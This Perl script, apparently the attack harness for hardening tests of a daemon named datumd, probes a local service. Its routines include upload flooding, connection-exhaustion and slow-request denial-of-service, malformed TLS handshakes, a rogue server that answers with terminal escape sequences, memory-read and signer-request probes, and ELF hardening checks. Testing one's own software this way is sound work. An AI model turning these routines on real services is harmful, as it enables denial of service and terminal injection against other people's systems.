# What the attack says to datumd and looks at, with what a Debian system has at least (perl-base): attack.pl VERB ...
use strict;
use warnings;
use Digest::SHA qw(sha256_hex);
use IO::Socket;
use Time::HiRes qw(time sleep);

sub connected { return IO::Socket::INET->new(PeerAddr => "127.0.0.1:$_[0]", LocalAddr => $_[1] // '127.0.0.1', Timeout => 30) }
sub slurp { local $/; open(my $in, '<', $_[0]) or die "$_[0]: $!"; binmode $in; return <$in> }
sub uploaded {  # a recipe and its answer
  my ($host, $name, $text) = @_;
  printf $host "MMEM:DATA \"%s\",#8%08d%s,\"%s\"\nSYST:ERR?\n", $name, length $text, $text, sha256_hex($text);
  $host->flush;
  return scalar(<$host>) // 'closed';
}

my %verbs = (
  upload => sub { my ($port, $name, $file) = @_; print uploaded(connected($port), $name, slurp($file)) },
  # Recipes of so many KiB, then deletions of one that is not there; what was answered, counted.
  uploads => sub {
    my ($port, $times, $kib, $file) = @_;
    my ($host, %counts) = (connected($port));
    my $text = slurp($file);
    for my $i (1 .. $times) {
      (my $named = $text) =~ s/^name = .*$/name = "flood-$i"/m;
      $counts{uploaded($host, "flood-$i", $named . "\n" . ("# " . "x" x 1021 . "\n") x $kib) =~ /^(-?\d+)/ ? $1 : 'closed'}++;
    }
    for (1 .. 30) {
      print $host "MMEM:DEL \"nothere\"\nSYST:ERR?\n";
      $host->flush;
      $counts{(<$host> // '') =~ /^(-?\d+)/ ? $1 : 'closed'}++;
    }
    print join(', ', map { "$_: $counts{$_}" } sort keys %counts), "\n";
  },
  # The longest time in ms that another host waits for an answer within so many seconds.
  latency => sub {
    my ($port, $seconds) = @_;
    my ($host, $until, $most) = (connected($port), time + $seconds, 0);
    while (time < $until) {
      my $from = time;
      print $host "*OPC?\n";
      $host->flush;
      defined <$host> or die "closed\n";
      $most = time - $from if time - $from > $most;
      sleep 0.05;
    }
    printf "%d\n", 1000 * $most;
  },
  # Lines that come unasked.
  listen => sub {
    my ($port, $seconds) = @_;
    my $host = connected($port) or die "refused\n";
    $| = 1;
    print $host "DATA:PUSH ON\n";
    $host->flush;
    alarm $seconds;
    while (<$host>) { print }
  },
  # Connections of one address, each with an empty line every half second.
  hold => sub {
    my ($port, $address, $number, $seconds) = @_;
    my @held;
    my $until = time + $seconds;
    $SIG{PIPE} = 'IGNORE';
    while (time < $until) {
      push @held, grep { defined } connected($port, $address) while @held < $number;
      for (@held) { print $_ "\n"; $_->flush }
      sleep 0.5;
    }
  },
  # The beginning of a TLS hello on so many connections, each closed one replaced, for so many seconds.
  hellos => sub {
    my ($port, $address, $number, $seconds) = @_;
    my @held;
    my $until = time + $seconds;
    $SIG{PIPE} = 'IGNORE';
    while (time < $until) {
      @held = grep { $_->blocking(0); my $n = sysread($_, my $byte, 1); !defined $n || $n > 0 } @held;
      while (@held < $number) {
        my $host = connected($port, $address) or last;
        syswrite $host, "\x16\x03\x01\x02\x00\x01\x00";
        push @held, $host;
      }
      sleep 0.05;
    }
  },
  # Records of the handshake that hold anything, a connection each.
  noise => sub {
    my ($port, $number) = @_;
    $SIG{PIPE} = 'IGNORE';
    for my $i (1 .. $number) {
      my $host = connected($port) or next;
      my $body = join '', map { chr rand 256 } 1 .. 1 + rand 3000;
      substr($body, 0, 4) = "\x01" . substr(pack('N', length($body) - 4), 1) if $i % 2;
      syswrite $host, "\x16\x03\x01" . pack('n', length $body) . $body;
      syswrite $host, $body if $i % 3 == 0;
      sleep 0.05;
    }
  },
  # Asks the signer for a head at this place of a store's chain; its answer.
  sign => sub {
    my ($path, $store, $link, $hash) = @_;
    require IO::Socket::UNIX;
    my $signer = IO::Socket::UNIX->new(Peer => $path) or die "$!\n";
    print $signer "SIGN $store $link $hash\n0\n";
    $signer->flush;
    print scalar(<$signer>) // "closed\n";
  },
  # Requests of which the half is sent, and then a whole one: the time in ms until that is answered.
  halves => sub {
    my ($port, $number) = @_;
    my $from = time;
    my @held = grep { defined } map { connected($port) } 1 .. $number;
    for (@held) { print $_ "GET /metrics HTTP/1.1\r\nHost: a"; $_->flush }
    my $host = connected($port) or die "refused\n";
    print $host "GET /metrics HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n";
    $host->flush;
    my $first = <$host> // 'closed';
    die "answered: $first\n" unless $first =~ /^HTTP\/1\.[01] 200/;
    printf "%d\n", 1000 * (time - $from);
  },
  # A daemon whose answers are orders to a terminal.
  serve => sub {
    my ($port) = @_;
    my $listener = IO::Socket::INET->new(LocalAddr => "127.0.0.1:$port", Listen => 5, ReuseAddr => 1) or die "$!\n";
    while (my $host = $listener->accept) {
      while (<$host>) {
        print $host "\e]0;owned\a\e[31mARMED\n" unless /ECHO/;
        print $host "$1;0,\"No error\"\n" if /ECHO\? (".*?")/;
        $host->flush;
      }
    }
  },
  # What hardens a program, by its own headers (ELF-64, little-endian): what it lacks.
  elf => sub {
    my ($file) = @_;
    my $bytes = slurp($file);
    my ($type, $offset, $size, $count) = (unpack('v', substr($bytes, 16, 2)), unpack('Q<', substr($bytes, 32, 8)), unpack('vv', substr($bytes, 54, 4)));
    my (@lacks, $relro, $stack, $now);
    push @lacks, 'position-independent' if $type != 3;
    for my $i (0 .. $count - 1) {
      my ($kind, $flags, $at, undef, undef, $length) = unpack('VVQ<Q<Q<Q<', substr($bytes, $offset + $i * $size, $size));
      $relro = 1 if $kind == 0x6474e552;
      $stack = 1 if $kind == 0x6474e551 && !($flags & 1);
      next if $kind != 2;
      for (my $d = 0; $d < $length; $d += 16) {
        my ($tag, $value) = unpack('Q<Q<', substr($bytes, $at + $d, 16));
        $now = 1 if $tag == 24 || ($tag == 0x6ffffffb && $value & 1) || ($tag == 30 && $value & 8);
      }
    }
    push @lacks, 'RELRO' unless $relro;
    push @lacks, 'a stack that is not executed' unless $stack;
    push @lacks, 'BIND_NOW' unless $now;
    push @lacks, 'a stack protector' unless $bytes =~ /\0__stack_chk_fail\0/;
    push @lacks, '_FORTIFY_SOURCE' unless $bytes =~ /\0__[a-z]+_chk\0/;
    die "$file lacks @{[join ', ', @lacks]}\n" if @lacks;
  },
  # Names and contents of an archive (gzip unpacks what deflate packed; its checksum is not there to be compared).
  zip => sub {
    my ($file) = @_;
    my ($bytes, $at) = (slurp($file), 0);
    while (substr($bytes, $at, 4) eq "PK\1\2" || ($at = index($bytes, "PK\1\2", $at)) >= 0) {
      my ($method, $packed, $name, $extra, $note, $local) = unpack('x10 v x8 V x4 vvv x8 V', substr($bytes, $at, 46));
      print substr($bytes, $at + 46, $name), "\n";
      my ($n, $e) = unpack('x26 vv', substr($bytes, $local, 30));
      my $data = substr($bytes, $local + 30 + $n + $e, $packed);
      if ($method == 8) {
        open(my $out, '|-', 'gzip -dc 2>/dev/null') or die;
        binmode $out;
        $| = 1;
        print $out "\x1f\x8b\x08\0\0\0\0\0\0\3", $data;
        close $out;
      } else {
        print $data, "\n";
      }
      $at += 46 + $name + $extra + $note;
    }
  },
  # Reads a byte of that process's memory (process_vm_readv of x86-64); the error.
  memory => sub {
    my ($pid) = @_;
    my $got = syscall(310, $pid + 0, 0, 0, 0, 0, 0);
    print $got < 0 ? "$!\n" : "allowed\n";
  },
  # Gives the loopback device an address more (SIOCSIFADDR): one of the internet that answers, without a network.
  address => sub {
    socket(my $any, PF_INET, SOCK_DGRAM, 0) or die "$!\n";
    ioctl($any, 0x8916, pack('a16 S n a4 x8', 'lo:1', AF_INET, 0, inet_aton($_[0]))) or die "$!\n";
  },
  reach => sub {
    my $host = IO::Socket::INET->new(PeerAddr => $_[0], Timeout => 3);
    print $host ? "connected\n" : "$!\n";
  },
);
my $verb = shift // '';
die "attack.pl: one of @{[sort keys %verbs]}\n" unless $verbs{$verb};
$verbs{$verb}->(@ARGV);
